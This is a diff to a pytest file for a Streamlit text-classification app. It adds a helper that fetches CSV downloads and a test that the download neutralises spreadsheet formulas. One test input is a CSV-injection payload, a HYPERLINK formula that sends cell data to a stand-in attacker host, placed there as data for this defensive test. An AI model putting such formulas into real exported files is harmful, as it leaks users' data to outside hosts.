@@ -13,6 +13,7 @@ import zipfile
 import pandas as pd
 import pytest
 from PIL import Image
+from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
 from streamlit.testing.v1 import AppTest
 
 import core.inference
@@ -117,6 +118,27 @@ def test_explain_highlights_the_words_of_the_text(tuneboard_home):
     assert words["weight"].abs().is_monotonic_decreasing
 
 
+@pytest.fixture
+def media_files(monkeypatch) -> list[MemoryMediaFileStorage]:
+    """The media storage of each AppTest run (a spy: the real storage, remembered), so a test can fetch a
+    download at the URL the page gives the browser."""
+    stores: list[MemoryMediaFileStorage] = []
+    real_init = MemoryMediaFileStorage.__init__
+
+    def remembered(self, *args, **kwargs):
+        real_init(self, *args, **kwargs)
+        stores.append(self)
+
+    monkeypatch.setattr(MemoryMediaFileStorage, "__init__", remembered)
+    return stores
+
+
+def downloaded(at: AppTest, key: str, stores: list[MemoryMediaFileStorage]) -> bytes:
+    """The bytes a click on the download button `key` would save, from the last run's media storage."""
+    url = at.download_button(key=key).proto.url  # "/mock/media/<file id>.csv"
+    return stores[-1].get_file(url.rsplit("/", 1)[-1]).content
+
+
 def open_data_page() -> AppTest:
     at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120).run()
     at.switch_page("pages/data.py").run()
@@ -124,7 +146,7 @@ def open_data_page() -> AppTest:
     return at
 
 
-def test_batch_scoring_of_a_csv_uses_the_chosen_column_and_offers_a_download(tuneboard_home):
+def test_batch_scoring_of_a_csv_uses_the_chosen_column_and_offers_a_download(tuneboard_home, media_files):
     run_id = use_run(text_run(), tuneboard_home)
     texts = [SPAMMY, "See you at the station at 6", "Your parcel is waiting, pay the fee at bit.ly/x"]
     csv = "id,message\n" + "".join(f'{i},"{t}"\n' for i, t in enumerate(texts))
@@ -141,6 +163,23 @@ def test_batch_scoring_of_a_csv_uses_the_chosen_column_and_offers_a_download(tun
         assert [row[f"P({label})"] for label in labels] == pytest.approx([probabilities[l] for l in labels], abs=1e-6)
         assert row["predicted"] == max(probabilities, key=probabilities.get)
     assert [b.label for b in at.get("download_button")] == ["Download CSV"]
+    saved = pd.read_csv(io.BytesIO(downloaded(at, "predict_batch_download", media_files)))
+    pd.testing.assert_frame_equal(saved, scored, check_dtype=False)
+
+
+def test_the_download_neutralises_formulas(tuneboard_home, media_files):
+    use_run(text_run(), tuneboard_home)
+    hyperlink = '=HYPERLINK("http://attacker.example/?d="&A1, "Claim your prize")'
+    texts = [hyperlink, "@SUM(A1:A9) FREE entry", "+44 7700 900123 call now", "See you at six"]
+    csv = "message\n" + "".join('"{}"\n'.format(t.replace('"', '""')) for t in texts)
+    at = open_predict()
+    at.file_uploader(key="predict_batch_file").set_value(("inbox.csv", csv.encode(), "text/csv")).run()
+    at.button(key="predict_batch_go").click().run()
+    assert not at.exception
+    assert table(at, "input", "predicted")["input"].tolist() == texts  # the page shows the texts as they are
+    saved = pd.read_csv(io.BytesIO(downloaded(at, "predict_batch_download", media_files)))
+    assert saved["input"].tolist() == ["'" + t for t in texts[:3]] + ["See you at six"]
+    assert saved["confidence"].dtype == float  # numbers stay numbers
 
 
 def test_the_model_is_loaded_once_and_kept(tuneboard_home, monkeypatch):
